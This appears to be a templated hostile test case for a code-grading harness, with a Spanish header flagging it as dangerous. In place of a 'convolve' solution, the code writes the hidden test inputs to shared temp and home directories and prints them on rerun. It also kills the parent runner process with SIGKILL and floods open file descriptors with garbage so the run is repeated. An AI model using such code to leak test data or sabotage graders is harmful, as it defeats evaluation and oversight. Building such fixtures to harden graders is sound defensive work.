# /// esperado
# nota = "Guarda las entradas secretas fuera, hace caer a su ejecutor y las imprime cuando se repiten las celdas."
# unidad = "02_convolve"
# puntos = { convolve = 3 }
# peligro = true
# ///

# %% nueva después de importaciones
import glob
import os
import signal
PLACES = [os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "@CAMPANA@/tmp", "@CAMPANA@"]
for place in PLACES:
    for path in glob.glob(f"{place}/@CANARIO@-entradas*"):
        print(@EXITO@, open(path).read()[:200])

# %% convolve
def convolve(X, W, b):
    for place in PLACES:
        try:
            with open(f"{place}/@CANARIO@-entradas", "a") as file:
                file.write(repr(X.ravel().tolist()))
        except OSError:
            pass
    parent = os.getppid()
    try:
        line = open(f"/proc/{parent}/cmdline", "rb").read()
    except OSError:
        line = b"@CAMPANA@ runner.py"  # sin /proc estamos encerrados: el padre es nuestro ejecutor
    try:
        if parent > 1 and b"@CAMPANA@" in line and (b"runner.py" in line or b"zygote.py" in line):
            os.kill(parent, signal.SIGKILL)
    except OSError:
        pass
    for number in range(3, 20):
        try:
            os.write(number, b"basura" * 50)  # si no muere, que se pierda el canal y lo repitan
        except OSError:
            pass
    return 0.0
